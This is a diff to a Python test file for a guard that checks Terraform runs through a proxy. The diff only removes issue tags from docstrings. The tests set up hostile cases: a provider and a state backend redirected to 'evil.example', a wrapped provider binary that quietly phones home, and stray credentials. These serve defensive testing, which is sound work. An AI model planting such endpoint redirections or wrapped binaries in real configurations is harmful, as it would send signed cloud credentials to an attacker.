@@ -1,4 +1,4 @@
-"""The real provider through the proxy, and hostile configurations that every rule of the guard let pass (E17, H11)."""
+"""The real provider through the proxy, and hostile configurations that every rule of the guard let pass."""
 
 from __future__ import annotations
 
@@ -142,7 +142,7 @@ def test_the_genuine_provider_plans_through_the_proxy_by_awss_own_names(online, 
 def test_a_provider_that_is_told_to_talk_to_somebody_else_is_refused_and_reported(
     host, said, online, cloud, internet, tmp_path
 ):
-    """E17: `endpoints` with the source rules switched off. Nothing of the request leaves, not even the name's look-up."""
+    """`endpoints` with the source rules switched off. Nothing of the request leaves, not even the name's look-up."""
     files = service("told", 'data "aws_caller_identity" "me" {}\n')
     provider = f'  region = var.region\n  endpoints {{\n    sts = "{host}"\n  }}\n'
     files["infra/versions.tf"] = files["infra/versions.tf"].replace("  region = var.region\n", provider)
@@ -157,7 +157,7 @@ def test_a_provider_that_is_told_to_talk_to_somebody_else_is_refused_and_reporte
 
 
 def test_a_backend_that_is_told_to_talk_to_somebody_else_is_refused_and_reported(online, cloud, internet, tmp_path):
-    """E17: the state's bucket at an attacker's; credentials would have signed the request."""
+    """The state's bucket at an attacker's; credentials would have signed the request."""
     files = service("backend")
     files["infra/backend/dev/backend.hcl"] += 'endpoints = { s3 = "https://evil.example" }\nuse_path_style = true\n'
     init, _, _ = planned(online, cloud, write(tmp_path, files))
@@ -203,7 +203,7 @@ with socket.create_connection(("127.0.0.1", proxy.port)) as s:
 def test_a_plan_that_went_well_but_reached_for_somebody_else_is_thrown_away(
     open_directory, mirror, aws, cloud, tmp_path
 ):
-    """E17: a provider that phones home quietly and does its work: the refusal is not lost in a green plan."""
+    """A provider that phones home quietly and does its work: the refusal is not lost in a green plan."""
     script = f"/usr/bin/python3 -I -S - <<'END' >/dev/null 2>&1\n{ASK}END\nexec $real"
     hostile = wrapped(open_directory, script, mirror / BINARY)
     with TerraformCli(
@@ -227,7 +227,7 @@ def test_a_plan_that_went_well_but_reached_for_somebody_else_is_thrown_away(
 def test_keys_and_addresses_of_the_outside_are_ignored_and_only_the_brokers_credentials_sign(
     terraform, aws, cloud, tmp_path, monkeypatch
 ):
-    """H11: AWS_* of the job, a home directory with credentials, an instance's metadata service."""
+    """AWS_* of the job, a home directory with credentials, an instance's metadata service."""
     hits: list[str] = []
 
     class Metadata(BaseHTTPRequestHandler):
